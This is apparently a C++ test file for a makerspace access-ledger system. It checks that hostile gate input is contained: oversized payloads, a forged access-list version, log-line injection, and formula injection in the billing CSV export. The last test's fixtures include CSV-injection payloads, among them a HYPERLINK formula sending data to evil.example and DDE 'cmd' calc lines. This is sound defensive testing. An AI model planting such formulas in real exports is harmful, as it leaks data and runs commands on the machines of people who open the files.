// What a gate's login can send the ledger through the production broker (TLS, per-gate logins,
// acl.conf), and what must not come of it: a database grown by huge refused payloads, a list
// version pushed up by a forged state, a forged log line, or a spreadsheet formula in an export.
#include <sys/stat.h>

#include <chrono>
#include <ctime>

#include <doctest/doctest.h>

#include "secure_fixtures.hpp"
#include "sys/acl_signature.hpp"

using namespace fabgate;
using namespace fabgate::test;
using namespace std::chrono_literals;

namespace {

std::int64_t file_size(const std::string& path) {
    struct stat st {};
    return ::stat(path.c_str(), &st) == 0 ? static_cast<std::int64_t>(st.st_size) : 0;
}

// The database as it takes space on disk, its write-ahead log included.
std::int64_t db_bytes(const std::string& db) {
    return file_size(db) + file_size(db + "-wal");
}

// The laser gate's broker login, connected, holding the list the running ledger published.
struct LaserLogin {
    explicit LaserLogin(SecureBroker& broker, const Ledger& ledger)
        : client(broker.port(), gate_login(broker, "laser-1"), "gate-lab-laser-1") {
        client.subscribe(topic("laser-1", "acl"));
        REQUIRE(client.connect());
        REQUIRE_MESSAGE(client.wait([&] { return !client.on(topic("laser-1", "acl")).empty(); }),
                        ledger.log());
    }
    SecureClient client;
};

MachineStatus idle_state() {
    MachineStatus s;
    s.state = MachineState::Idle;
    s.since = 1'767'225'600'000;
    return s;
}

}  // namespace

TEST_CASE(
    "production broker: four 5 MB session publishes from a gate's login grow the ledger's "
    "database by a bounded amount, and none is stored whole") {
    SecureBroker broker;
    Ledger ledger(broker);
    ledger.start();
    LaserLogin gate(broker, ledger);
    const auto before = db_bytes(ledger.db());

    const std::size_t size = 5'000'000;
    const int publishes = 4;
    for (int n = 0; n < publishes; ++n) {
        auto huge = session_payload("laser-1", "s-" + std::to_string(n));
        huge.insert(huge.size() - 1, ",\"pad\":\"" + std::string(size, 'A' + n) + "\"");
        REQUIRE(gate.client.publish(topic("laser-1", "sessions"), huge));
    }
    REQUIRE_MESSAGE(eventually([&] {
                        return query_int(ledger.db(), "SELECT count(*) FROM ingest_errors") >=
                               publishes;
                    }),
                    ledger.log());
    const auto growth = db_bytes(ledger.db()) - before;
    MESSAGE("ledger database grew by " << growth << " bytes for " << publishes << " x " << size
                                       << " bytes refused");
    CHECK(growth < 1'000'000);
    CHECK(query_int(ledger.db(), "SELECT max(length(CAST(payload AS BLOB))) FROM ingest_errors") <=
          4096);
    CHECK(query_int(ledger.db(), "SELECT min(payload_size) FROM ingest_errors") > 5'000'000);
    CHECK(query_int(ledger.db(),
                    "SELECT count(*) FROM ingest_errors WHERE "
                    "length(payload_sha256) = 64") == publishes);
    CHECK(query_int(ledger.db(), "SELECT count(*) FROM sessions") == 0);
}

TEST_CASE(
    "production broker: a gate reporting acl_version INT64_MAX does not push the ledger's "
    "versions; the gate keeps getting valid lists") {
    SecureBroker broker;
    Ledger ledger(broker);
    ledger.start();
    LaserLogin gate(broker, ledger);
    auto forged = idle_state();
    forged.acl_version = INT64_MAX;
    REQUIRE(gate.client.publish(topic("laser-1", "state"), encode(forged), true));
    REQUIRE_MESSAGE(
        eventually([&] {
            return ledger.log().find("reports access list version 9223372036854775807") !=
                   std::string::npos;
        }),
        ledger.log());

    for (const char* step :
         {"members add m-2 --name Bob", "badges assign 04B0B0B0 m-2", "rights grant m-2 laser-1"})
        REQUIRE(ledger.db_fabctl(step).status == 0);
    const auto public_key = first_word(broker.file("keys/acl-signing.pub"));
    std::optional<AccessList> with_bob;
    REQUIRE_MESSAGE(gate.client.wait([&] {
        for (const auto& heard : gate.client.on(topic("laser-1", "acl"))) {
            auto snapshot = decode_access_list(heard.payload);
            if (snapshot && snapshot->list.entries.size() == 2) with_bob = snapshot->list;
        }
        return with_bob.has_value();
    }),
                    ledger.log());
    CHECK(with_bob->version == 2);
    const auto last = gate.client.on(topic("laser-1", "acl")).back().payload;
    CHECK(acl_signature::verify_payload(last, public_key));
    CHECK(query_int(ledger.db(), "SELECT max(version) FROM acl_versions") == 2);
}

TEST_CASE(
    "production broker: a newline and <0> in a gate's state, event or session never make a "
    "line of their own in the ledger's log") {
    SecureBroker broker;
    Ledger ledger(broker);
    ledger.start();
    LaserLogin gate(broker, ledger);
    const std::string forged = "\n<0>fabledger ledger: FORGED";
    auto state = nlohmann::json::parse(encode(idle_state()));
    state["state"] = "idle" + forged + "-STATE";
    REQUIRE(gate.client.publish(topic("laser-1", "state"), state.dump()));
    auto session = nlohmann::json::parse(session_payload("laser-1", "s-1"));
    session["uid"] = "04A1B2C3" + forged + "-SESSION";
    REQUIRE(gate.client.publish(topic("laser-1", "sessions"), session.dump()));
    GateEvent event;
    event.kind = EventKind::Denied;
    event.uid = "04A1B2C3";
    auto event_json = nlohmann::json::parse(encode(event));
    event_json["event"] = "denied" + forged + "-EVENT";
    REQUIRE(gate.client.publish(topic("laser-1", "events"), event_json.dump()));

    // Each reached the log (refused, quoting the field): escaped, on the line it belongs to.
    for (const char* which : {"-STATE", "-SESSION", "-EVENT"})
        CHECK_MESSAGE(eventually([&] {
                          return ledger.log().find(std::string("FORGED") + which) !=
                                 std::string::npos;
                      }),
                      which << " never logged:\n"
                            << ledger.log());
    const auto log = ledger.log();
    CHECK_MESSAGE(log.find("\n<0>") == std::string::npos, log);
    CHECK(log.find("\\n<0>fabledger ledger: FORGED") != std::string::npos);
}

TEST_CASE(
    "production broker: member names that are spreadsheet formulas come out of fabctl billing "
    "export as text, for sessions that came through the broker") {
    SecureBroker broker;
    Ledger ledger(broker);
    const std::vector<std::pair<std::string, std::string>> members{
        {"04F00001", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Prize\")"},
        {"04F00002", "+1+cmd|' /C calc'!A0"},
        {"04F00003", "-2+3+cmd|' /C calc'!A0"},
        {"04F00004", "@SUM(1+1)*cmd|' /C calc'!A0"}};
    int n = 0;
    for (const auto& [uid, name] : members) {
        auto id = "m-f" + std::to_string(++n);
        for (auto step : {"members add " + id + " --name " + quote(name) + " --class standard",
                          "badges assign " + uid + " " + id, "rights grant " + id + " laser-1"}) {
            auto r = ledger.db_fabctl(step);
            REQUIRE_MESSAGE(r.status == 0, step << ": " << r.output);
        }
    }
    REQUIRE(ledger.db_fabctl("tariffs set laser-1 --class standard --per-hour 10 --from 2020-01-01")
                .status == 0);
    ledger.start();
    SignedGate gate(broker);
    REQUIRE_MESSAGE(gate.logged("access list version 1 in force (5 badges)"), gate.log());
    for (const auto& [uid, name] : members) CHECK(gate.admits(uid));
    REQUIRE_MESSAGE(eventually([&] {
                        return gate.outbox_rows() == 0 &&
                               query_int(ledger.db(), "SELECT count(*) FROM sessions") == 4;
                    }),
                    ledger.log());

    // fabctl closes periods on whole minutes, and not before they end: wait for the minute the
    // sessions ended in to be over.
    const std::time_t ended = std::time(nullptr);
    REQUIRE(eventually([&] { return std::time(nullptr) / 60 > ended / 60; }, 65s));
    std::time_t now = std::time(nullptr);
    char to[32];
    std::strftime(to, sizeof to, "%Y-%m-%dT%H:%M:%SZ", std::gmtime(&now));
    auto closed = ledger.db_fabctl(std::string("billing close --to ") + to);
    REQUIRE_MESSAGE(closed.status == 0, closed.output);
    REQUIRE_MESSAGE(closed.output.find("4 session(s)") != std::string::npos, closed.output);
    auto csv = ledger.db_fabctl("billing export 1");
    REQUIRE_MESSAGE(csv.status == 0, csv.output);
    INFO(csv.output);
    for (const auto& member : members) {
        const std::string& name = member.second;  // clang before 16: no binding in a CHECK
        // Quoted or not, the cell begins with an apostrophe: the spreadsheet shows text.
        std::string plain = "," + std::string("'") + name + ",";
        std::string quoted = ",\"'";
        for (char c : name) quoted += c == '"' ? std::string("\"\"") : std::string(1, c);
        quoted += "\",";
        CHECK_MESSAGE((csv.output.find(plain) != std::string::npos ||
                       csv.output.find(quoted) != std::string::npos),
                      name);
        CHECK(csv.output.find("," + name.substr(0, 6)) == std::string::npos);
        CHECK(csv.output.find(",\"" + name.substr(0, 6)) == std::string::npos);
    }
}
